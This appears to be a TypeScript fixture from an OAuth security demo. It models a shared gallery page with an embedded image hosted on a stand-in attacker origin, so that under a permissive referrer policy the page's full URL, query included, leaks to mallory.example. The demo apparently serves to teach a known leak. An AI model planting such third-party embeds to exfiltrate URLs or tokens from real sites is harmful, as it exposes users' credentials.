import { ATTACKER_ORIGIN } from '../protocol/demo-world.ts'
import type { ClientPage } from './client-callback.ts'

/** Where Mallory's post lives on the Printshop web app's site. */
export const GALLERY_PATH = '/gallery/mallory'

/**
 * A page of the Printshop web app's public gallery, where customers share their prints: Mallory
 * shared one, and its picture is hosted on her own site. The gallery sends
 * `Referrer-Policy: no-referrer-when-downgrade` (the browsers' default until 2020, still set by
 * sites that want partners to see where visitors came from), so the picture's request tells
 * mallory.example the page's full URL, query and all (RFC 9700 §4.2.1).
 */
export const MALLORY_GALLERY_PAGE: ClientPage = {
  title: 'Printshop gallery: Mallory’s prints',
  body: `<p>Shared by <strong>mallory</strong>: “Sunset over the car park”, printed on A3 matte.</p>
<p><img src="${ATTACKER_ORIGIN}/prints/sunset.svg" alt="Sunset over the car park, Mallory’s print" width="240" height="180"></p>
<p>Order your own prints from your photo library at Printshop.</p>`,
  referrerPolicy: 'no-referrer-when-downgrade',
}
